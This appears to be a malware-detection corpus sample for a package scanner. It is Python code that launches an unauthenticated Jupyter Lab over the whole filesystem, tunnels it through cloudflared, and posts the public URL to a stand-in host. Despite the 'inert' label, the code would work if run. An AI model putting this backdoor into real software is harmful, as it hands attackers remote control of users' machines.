# pkgguard corpus 710 (remote-shell), modelled on [developer-persistence]; inert, never run.
import re
import subprocess
import sys

import requests

subprocess.Popen(
    [sys.executable, "-m", "jupyter", "lab", "--no-browser", "--port=8765",
     "--ServerApp.token=", "--ServerApp.password=", "--ServerApp.root_dir=/"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
tunnel = subprocess.Popen(["cloudflared", "tunnel", "--url", "http://localhost:8765"], stderr=subprocess.PIPE, text=True)
for line in tunnel.stderr:
    found = re.search(r"https://[a-z0-9-]+\.trycloudflare\.com", line)
    if found:
        requests.post("https://nb-share.example/u", json={"url": found.group(0)}, timeout=10)
        break
